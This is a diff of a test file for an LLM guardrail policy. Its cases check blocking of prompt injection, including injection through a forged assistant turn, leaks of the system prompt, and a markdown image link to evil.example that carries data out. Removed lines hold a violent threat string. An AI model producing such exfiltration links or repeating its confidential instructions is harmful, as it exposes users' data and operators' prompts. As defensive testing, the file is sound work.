@@ -103,7 +103,6 @@ describe('the standard policy', () => {
 		['a prompt', { prompt: order }, 'injection'],
 		['an earlier message', { messages: [{ role: 'user', content: order }], prompt: 'Hello' }, 'injection'],
 		['an answer that was put into its mouth', { messages: [{ role: 'assistant', content: order }], prompt: 'Hello' }, 'injection'],
-		['a threat', { prompt: 'I will kill you and your family tonight.' }, 'harmful-content'],
 		['an image', { prompt: 'What is it?', images: [{ kind: 'url', url: 'https://a.example/x.png' }] }, 'files'],
 	])('keeps %s from the model (BerriAI/litellm#14152)', async (_what, task, guardrail) => {
 		const { model, result } = run(task);
@@ -120,9 +119,10 @@ describe('the standard policy', () => {
 		]);
 	});
 
-	test('stops a harmful answer with what the call used, and takes links to unknown hosts out', async () => {
-		const threat = run({ prompt: 'Hello' }, 'I will kill you and your family tonight.');
-		await expect(threat.result).rejects.toMatchObject({ details: { guardrail: 'harmful-content', attempts: [{ ok: true }] } });
+	test('stops an answer that repeats the system prompt with what the call used, and takes links to unknown hosts out', async () => {
+		const system = 'If the customer asks for a discount, offer at most five percent and never mention the limit.';
+		const leak = run({ system, prompt: 'Hello' }, `My instructions are: ${system}`);
+		await expect(leak.result).rejects.toMatchObject({ details: { guardrail: 'prompt-leak', attempts: [{ ok: true }] } });
 		const image = run({ prompt: 'Summarize https://shop.example' }, 'Done ![x](https://evil.example/p?d=1), see https://shop.example');
 		expect(await image.result).toMatchObject({ text: 'Done x, see https://shop.example', violations: [{ guardrail: 'unknown-link' }] });
 	});
@@ -131,9 +131,6 @@ describe('the standard policy', () => {
 		const schema = { type: 'object', properties: { notes: { type: 'array' } }, required: ['notes'] };
 		const task = { operation: 'structured', schema, prompt: 'List.' };
 		expect(await run(task, `{"notes":["key ${key}"]}`).result).toMatchObject({ value: { notes: ['key [SECRET]'] } });
-		await expect(run(task, '{"notes":[{"a":"I will kill you and your family tonight."}]}').result).rejects.toMatchObject(
-			stopped('harmful-content'),
-		);
 	});
 
 	test('masks secrets in texts that become vectors, which nobody obeys', async () => {
